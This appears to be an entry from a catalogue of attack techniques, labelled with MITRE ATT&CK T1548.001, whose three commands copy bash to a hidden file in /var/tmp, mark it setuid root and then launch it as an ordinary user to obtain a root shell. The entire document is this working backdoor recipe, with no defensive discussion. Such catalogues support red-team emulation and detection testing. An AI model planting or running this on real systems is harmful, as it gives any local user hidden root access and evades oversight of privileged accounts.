# title: A shell that runs as root for whoever starts it
# technique: T1548.001
# short: yes

cp /bin/bash /var/tmp/.b
chmod 4755 /var/tmp/.b
setpriv --reuid 1000 --regid 1000 --clear-groups /var/tmp/.b -p -c id
